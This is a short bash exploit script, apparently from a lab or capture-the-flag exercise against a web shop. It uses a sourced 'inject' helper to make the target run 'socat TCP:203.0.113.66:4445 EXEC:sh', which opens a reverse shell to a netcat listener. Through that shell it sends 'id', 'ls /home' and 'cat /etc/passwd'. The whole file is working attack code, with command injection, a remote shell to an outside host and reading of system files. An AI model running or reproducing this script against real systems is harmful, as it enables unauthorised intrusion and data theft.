#!/bin/bash
# A shell of the shop's user through socat.
source "$(dirname "$0")/inject.sh"
{ sleep 3; for command in id 'ls /home' 'cat /etc/passwd' exit; do echo "$command"; sleep 1.5; done; } |
  timeout 30 nc -l 203.0.113.66 4445 >/dev/null &
sleep 0.5
inject 'socat TCP:203.0.113.66:4445 EXEC:sh' >/dev/null
wait
